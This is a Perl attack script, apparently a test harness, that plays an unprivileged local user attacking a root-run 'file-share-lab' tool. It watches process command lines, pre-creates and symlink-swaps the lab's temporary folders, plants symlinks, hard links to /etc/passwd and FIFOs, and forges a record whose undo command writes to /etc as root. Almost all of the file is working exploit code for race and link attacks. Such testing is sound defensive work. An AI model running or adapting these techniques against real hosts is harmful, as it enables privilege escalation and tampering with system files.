# usage: attacker.pl ATTACK SECONDS
# What a user without rights can try on a host while the lab works there; prints what it got hold of. ATTACK:
#   first  looks into the words of every process all the time for names, and makes the lab's folders before the lab does
#   swap   makes the lab's folders itself, and swaps each with a link to a folder of root's that it may write records into
#   plant  puts links, hard links and FIFOs where payloads, samples and logs of the lab might come
# Ends after SECONDS.
use strict; use warnings;
use POSIX 'mkfifo';
use Time::HiRes 'sleep';

my ($attack, $seconds) = @ARGV;
my @OPEN = qw(/tmp /var/tmp /dev/shm /srv/disk /private/tmp /private/var/tmp /Users/Shared /Users/Shared/disk);
my @OTHERS = qw(/var/lib /var/db /private/var/db /run /root /var/lib/file-share-lab /private/var/db/file-share-lab);
my ($PROC) = grep { -e "$_/self" } qw(/proc /linux/proc);    # the second is below an emulated Mac
my $PWN = 'id > /etc/PWNED-by-nobody';
my $RECORD = qq({"number":2,"host":"server","name":"x","old":"absent","new":"there","read":{"argv":["/bin/sh","-c","echo there"],)
    . qq("root":true,"deadline_s":30.0},"undo":[{"argv":["/bin/sh","-c","$PWN"],"root":true,"deadline_s":30.0}],)
    . qq("run":"deadbeef","boot":"","volatile":false,"holds":false,"event":"change"}\n);
my ($user, $planted, %mine, %printed) = ($<, 0);
$| = 1;

sub tell_once { my ($text) = @_; print "$text\n" unless $printed{$text}++ }
sub words { my ($pid) = @_; open my $file, '<', "$PROC/$pid/cmdline" or return ''; local $/; return scalar(<$file>) // '' }
sub put { my ($path, $text) = @_; open my $file, '>', $path or return; print $file $text; close $file; chmod 0777, $path }

# Take a folder: whatever root starts or reads in it from here on is ours
sub take {
    my ($path) = @_;
    return if grep { "$path/" =~ m{^\Q$_/} } keys %mine or !mkdir $path, 0777;
    chmod 0777, $path;
    $mine{$path} = 1;
    tell_once("took $path");
    symlink '/etc/PWNED-by-nobody', "$path/$_" for qw(samples sampler.log lock);
}

sub fill {
    for my $folder (keys %mine) {
        for my $path (glob "$folder/*.pl") { put($path, "system q($PWN);\n") }
        for my $path (glob "$folder/*.process $folder/*/*.conf") { unlink $path; put($path, "1\n1\n") }
    }
}

sub first {
    for my $process (glob "$PROC/[0-9]*") {
        my $words = words($process =~ /(\d+)$/);
        while ($words =~ m{([^\s\0"'=]*file-share-lab-[^\s\0"':=]*)}g) {
            my $path = $1;
            for (; $path =~ m{/[^/]*file-share-lab-}; $path =~ s{/[^/]*$}{}) { take($path) }
        }
        while ($words =~ /\b((?:file-share-lab-)?[0-9a-f]{8,32})\b/g) {
            (my $token = $1) =~ s/^file-share-lab-//;
            for my $above (@OPEN, @OTHERS) { take("$above/file-share-lab-$token"); take("$above/$token") }
        }
    }
    fill();
}

my $exchange = { x86_64 => 316, aarch64 => 276 }->{(POSIX::uname())[4]};
sub swap {
    for my $above (@OPEN, @OTHERS) {
        my ($folder, $link) = ("$above/file-share-lab", "$above/.theirs-$user");
        take($folder);
        symlink $above, $link unless -l $link or -d $link;
        put("$above/deadbeef-000002", $RECORD) unless -e "$above/deadbeef-000002";
        # AT_FDCWD, RENAME_EXCHANGE; the numbers must be numbers
        syscall($exchange, -100, $folder, -100, $link, 2) == 0 and tell_once("swapped $folder") for 1 .. 20;
    }
}

sub plant {
    my %folders = map { $_ => 1 } grep { m{/file-share-lab} } map { (split ' ')[1] } do { open my $f, '<', "$PROC/self/mounts"; <$f> };
    $folders{$_} = 1 for glob '/srv/disk/file-share-lab-* /Users/Shared/disk/file-share-lab-*';
    my @names = map { ("b001-000$_.bin", ".b001-000$_.bin") } 1 .. 9;
    for my $process (glob "$PROC/[0-9]*") { push @names, words($process =~ /(\d+)$/) =~ m{(\.?b\d{3}-[\w-]+\.bin)}g }
    for my $folder (keys %folders) {
        for my $name (@names, 'samples', 'b001-store-write.bin') {
            my $path = "$folder/$name";
            # by turns; where the kernel lets nobody link to a file of root's, to one of ours
            my $is_planted = $planted++ % 2 ? link('/etc/passwd', $path) || link("/tmp/.file-$user", $path)
                : symlink('/etc/PWNED-by-nobody', $path);
            tell_once("planted $path") if $is_planted;
        }
        mkfifo("$folder/b001-0010.bin", 0666) and tell_once("planted $folder/b001-0010.bin");
    }
}

put("/tmp/.file-$user", "theirs\n");
print "ready\n";
my $end = time + $seconds;
while (time < $end) {
    $attack eq 'first' ? first() : $attack eq 'swap' ? swap() : plant();
    sleep $attack eq 'swap' ? 0.001 : 0.02;
}
